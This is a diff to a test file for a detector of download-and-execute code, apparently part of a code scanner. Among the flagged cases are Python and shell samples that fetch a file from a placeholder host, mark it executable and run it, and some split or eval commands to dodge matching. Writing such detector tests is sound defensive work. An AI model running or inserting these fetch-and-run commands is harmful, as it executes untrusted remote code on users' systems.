@@ -8,6 +8,22 @@ const url = 'https://get.tool.example/i.sh';
 
 testRule(downloadExecute, {
   caught: [
+    {
+      of: 'Python that stores and starts',
+      files: {
+        'a.py':
+          'import requests, subprocess, tempfile, os\nr = requests.get("https://in.example/a.bin")\np = os.path.join(tempfile.gettempdir(), "upd")\nwith open(p, "wb") as f:\n    f.write(r.content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n',
+      },
+      severity: 'critical',
+    },
+    {
+      of: 'the same in two calls',
+      files: {
+        'a.py':
+          'import urllib.request, os\nurllib.request.urlretrieve("https://in.example/a", "/tmp/agent")\nos.system("chmod +x /tmp/agent; /tmp/agent")\n',
+      },
+      severity: 'critical',
+    },
     ...[
       ['a command in pieces', `a=cu; b=rl; c=ba; d=sh\n$a$b -s ${url} | $c$d`],
       ['a variable that is evaluated', `S=$(curl -fsSL ${url})\neval "$S"`],
@@ -131,6 +147,13 @@ testRule(downloadExecute, {
     { of: 'a warning, lower', files: fence(`curl ${url} | sh`, 'Never run a command like this:'), severity: 'low' },
   ],
   silent: [
+    {
+      of: 'Python that stores data and hands it to a program',
+      files: {
+        'a.py':
+          'import urllib.request, os\nurllib.request.urlretrieve("https://data.example/list.json", "/tmp/list.json")\nos.system("jq . /tmp/list.json")\n',
+      },
+    },
     ...[
       'S=$(curl -fsSL https://t.example/version)\necho "$S"\nif [ "$S" != "1" ]; then npm update t; fi',
       'KEY=$(cat ~/.config/t/key)\ncurl -s -H "Authorization: Bearer $KEY" https://api.t.example/x',
